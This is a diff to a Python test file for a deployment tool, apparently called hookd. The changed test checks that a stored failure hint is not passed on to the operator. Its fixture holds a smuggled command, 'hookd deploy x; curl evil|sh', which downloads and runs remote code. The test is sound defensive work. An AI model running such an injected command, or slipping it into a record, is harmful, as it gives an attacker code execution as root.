@@ -57,10 +57,13 @@ def test_how_the_last_deployment_ended(history: list[Deployment], expected: list
     assert all("hookd logs shop-" in (one.hint or "") for one in found)
 
 
-def test_the_cause_of_a_failure_is_told() -> None:
-    (found,) = ending(app(), [record(Status.FAILED, 1, cause="it does not import", hint="hookd deploy shop")])
+def test_the_cause_of_a_failure_is_told_and_its_hint_is_not() -> None:
+    """Whoever took the receiver over may write a record; root types what the doctor says."""
+    (found,) = ending(
+        app(), [record(Status.FAILED, 1, cause="it does not import", hint="hookd deploy x; curl evil|sh")]
+    )
     assert found.what == "the last deployment ended failed: it does not import"
-    assert (found.hint or "").endswith("hookd deploy shop")
+    assert found.hint == "sudo hookd logs shop-20260801T120000000-00000a; sudo hookd deploy shop"
 
 
 def test_a_push_that_never_arrived() -> None:
